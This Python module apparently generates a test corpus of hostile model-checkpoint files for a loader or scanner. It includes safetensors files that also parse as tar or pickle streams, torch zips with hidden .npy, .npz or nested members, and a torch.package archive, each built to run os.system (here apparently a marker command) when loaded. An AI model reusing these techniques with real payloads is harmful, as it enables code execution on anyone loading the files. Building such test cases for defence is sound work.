"""Every reading a loader could make (issue 21): polyglots, hidden members, nested files, code archives.

Each case is a file that some loader reads differently from the reader its
format suggests: a safetensors file torch.load reads as a tar or a pickle, a
zip member only NumPy or a nested torch.load reads, TorchScript code and a
torch.package archive whose Python runs on load, and a zip member outside
the archive's folder (torch 2.13 refuses it).
"""
from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from typing import TYPE_CHECKING

from . import builders as b

if TYPE_CHECKING:
    from .generate import Corpus

SYSTEM = ("posix.system", "os.system")
LEGACY_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C


def add_readings(c: Corpus) -> None:
    _polyglots(c)
    _hidden_members(c)
    _code_archives(c)


# ------------------------------------------------------------------ polyglots


def safetensors_tar_polyglot(storages_pickle: bytes) -> bytes:
    """A tar whose first header block is also a safetensors header: one U8 tensor covers the rest.

    The tar's first member name field (bytes 0..99) holds the 8-byte header
    length and the JSON; tarfile checks only the header checksum, so torch's
    legacy loader opens it as the torch 0.1 tar format and unpickles ``storages``.
    """
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in (("placeholder", b""), ("storages", storages_pickle)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1577836800
            tar.addfile(info, io.BytesIO(data))
    raw = bytearray(out.getvalue())
    size = len(raw) - 100
    text = json.dumps({"t": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}},
                      separators=(",", ":")).encode()
    field = struct.pack("<Q", 92) + text.ljust(92)
    raw[0:100] = field
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw[0:512])
    return bytes(raw)


def safetensors_pickle_polyglot(payload: bytes) -> bytes:
    """A safetensors file whose bytes are also a pickle that reaches ``payload`` (placed in the data).

    The header length 3139 is ``b"C\\x0c\\0\\0\\0\\0\\0\\0"``: SHORT_BINBYTES swallowing the next 12
    bytes, into the first JSON key; inside it a chain of SHORT_BINBYTES (printable lengths, so the
    key stays valid JSON) swallows the rest of the header and lands in the tensor data, where a
    plain protocol-2 pickle calls the payload. safetensors reads one U8 tensor; pickle.load and
    torch.load (of any name but *.safetensors) run the call.
    """
    n = 0x43 + 12 * 256
    end = 8 + n  # where the tensor data starts
    size = 600
    tail = json.dumps({"dtype": "U8", "shape": [size], "data_offsets": [0, size]}, separators=(",", ":"))
    tail_b = ('":' + tail + "}").encode()
    key = bytearray(b"a" * (n - 2 - len(tail_b)))  # the key starts at byte 10
    pos = 14  # the first opcode after the 12 swallowed bytes
    while True:
        rest = end - (pos + 2)  # from after this link's length byte to the tensor data
        last = len(tail_b) <= rest <= 126 and rest not in (34, 92)
        step = rest if last else min(100, rest - 2 - len(tail_b))
        step -= step in (34, 92)  # '"' and '\\' would end or escape the key
        key[pos - 10 : pos - 8] = b"C" + bytes([step])
        if last:
            break
        pos += 2 + step
    header = b'{"' + bytes(key) + tail_b
    body = payload[2:] if payload.startswith(b"\x80") else payload  # no PROTO needed mid-stream
    data = body + b"\0" * (size - len(body))
    return struct.pack("<Q", n) + header + bytes(data)


def _polyglots(c: Corpus) -> None:
    evil = b.dumps(b.Reduce(os.system, c.touch("polyglot_safetensors_tar")))
    c.add("polyglot_safetensors_tar", "legacy/tar", safetensors_tar_polyglot(evil),
          "valid safetensors and a torch 0.1 tar: torch.load(weights_only=False) of a .pth unpickles its "
          "'storages' member (os.system)", payload=True, calls=SYSTEM)
    evil = b.dumps(b.Reduce(os.system, c.touch("polyglot_safetensors_pickle_pth")), protocol=2)
    c.add("polyglot_safetensors_pickle_pth", "pickle-opcode", safetensors_pickle_polyglot(evil),
          "valid safetensors and a pickle (SHORT_BINBYTES hops the JSON into the data): pickle.load and "
          "torch.load of a .pth run os.system", payload=True, calls=SYSTEM)


# ------------------------------------------------------------------ members only some loader reads


def npy_bytes(descr: str, payload_pickle: bytes, version: tuple[int, int] = (1, 0), *,
              fortran: bool = True) -> bytes:
    """An ``.npy`` with the dtype spelled ``descr`` exactly (np.load(allow_pickle=True) unpickles the data)."""
    text = f"{{'descr': {descr}, 'fortran_order': {fortran}, 'shape': (1,), }}".encode("latin-1")
    start = 10 if version[0] == 1 else 12
    total = -(-(start + len(text) + 1) // 64) * 64
    text = text + b" " * (total - start - len(text) - 1) + b"\n"
    size = struct.pack("<H", len(text)) if version[0] == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes(version) + size + text + payload_pickle


def legacy_magic_bytes(spelling: str, obj_pickle: bytes) -> bytes:
    """A legacy torch.save stream whose magic number is pickled with other opcodes (torch checks the value)."""
    m = LEGACY_MAGIC_NUMBER
    magic = {
        "long4": b"\x8b" + struct.pack("<I", 10) + m.to_bytes(10, "little") + b".",
        "int_text": b"I%d\n." % m,
        "proto0": pickle.dumps(m, protocol=0),
        "computed": b"cbuiltins\nint\n(V%x\nK\x10tR." % m,  # int("1950a8...", 16): a call, no constant
    }[spelling]
    sys_info = b.dumps({"protocol_version": 1001, "little_endian": True,
                        "type_sizes": {"short": 2, "int": 4, "long": 8}})
    return magic + b.dumps(1001) + sys_info + obj_pickle + b.dumps([])


def _with_member(name: str, data: bytes) -> bytes:
    raw = b.tsave({"w": __import__("torch").ones(2)})
    return b.py_zip([*b.zip_members(raw), (name, data)])


def _hidden_members(c: Corpus) -> None:
    def evil(name: str) -> bytes:
        return b.dumps(b.Reduce(os.system, c.touch(name)))

    for name, descr, version in (
        ("zip_npy_object_spelled", "'object'", (1, 0)),
        ("zip_npy_structured_object", "[('a', '<f4'), ('b', '|O')]", (3, 0)),
        ("zip_npy_subarray_object", "[('a', 'O', (2,))]", (2, 0)),
    ):
        c.add(name, "nested", _with_member(f"archive/extra/{name}.npy", npy_bytes(descr, evil(name), version)),
              f"torch zip with an .npy member, dtype {descr} (np.load(allow_pickle=True) unpickles it); torch "
              "never reads the member", flag=SYSTEM)
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("arr.npy", npy_bytes("'O'", evil("zip_npz_member")))
    c.add("zip_npz_member", "nested", _with_member("archive/extra/arrays.npz", npz.getvalue()),
          "torch zip holding an .npz whose array has an object dtype", flag=SYSTEM)
    for spelling in ("long4", "int_text", "computed"):
        name = f"zip_nested_legacy_{spelling}"
        c.add(name, "nested", _with_member("archive/extra/nested.pt", legacy_magic_bytes(spelling, evil(name))),
              f"torch zip with a nested legacy torch file whose magic number is pickled as {spelling}; "
              "its object pickle calls os.system", flag=SYSTEM)
    name = "load_from_bytes_text_magic"
    blob = legacy_magic_bytes("int_text", evil(name))
    c.add(name, "nested", b.dumps({"w": b.Reduce(_load_from_bytes(), blob)}),
          "torch.storage._load_from_bytes of a legacy stream whose magic is INT text (torch.load runs it "
          "with weights_only=False)", payload=True, calls=SYSTEM)
    raw = b.tsave({"w": __import__("torch").ones(2)})
    c.add("zip_member_outside_folder", "zip-structure",
          b.py_zip([*b.zip_members(raw), ("other/payload.pkl", evil("zip_member_outside_folder"))]),
          "a member outside the archive's folder: torch 2.13 refuses the file ('file in archive is not in a "
          "subdirectory'); the member calls os.system", flag=SYSTEM)


def _load_from_bytes():  # type: ignore[no-untyped-def]
    import torch.storage

    return torch.storage._load_from_bytes


# ------------------------------------------------------------------ code archives


def _code_archives(c: Corpus) -> None:
    import torch

    name = "torchscript_custom_op"
    if not hasattr(torch.ops.ckpt_hostile, "poke"):
        torch.library.define("ckpt_hostile::poke", "(Tensor x) -> Tensor")
        torch.library.impl("ckpt_hostile::poke", "CPU")(lambda x: x + 1)

    class Poke(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.ops.ckpt_hostile.poke(x)

    path = os.path.join(c.folder, name + ".pt")
    torch.jit.save(torch.jit.script(Poke()), path)
    c.add(name, "dangerous-call", None, "TorchScript code calling torch.ops.ckpt_hostile.poke, an extension "
          "library's operator", path=path, flag=("torch.ops.ckpt_hostile.poke",))

    name = "torch_package_source"
    src = os.path.join(c.support, "pkgsrc")
    os.makedirs(src, exist_ok=True)
    with open(os.path.join(src, "ckpt_pkg_payload.py"), "w") as f:
        f.write(f"{c.py_touch(name)}\n\nclass Thing:\n    pass\n")
    path = os.path.join(c.folder, name + ".pt")
    from torch.package import PackageExporter

    with PackageExporter(path) as exporter:
        exporter.save_source_file("ckpt_pkg_payload", os.path.join(src, "ckpt_pkg_payload.py"))
        exporter.save_pickle("res", "thing.pkl", {"w": [1.0, 2.0]})  # no pickle names the module
    c.add(name, "dangerous-call", None, "torch.package archive: PackageImporter imports (runs) its packaged "
          "module", path=path, flag=("ckpt_pkg_payload.<module>",))
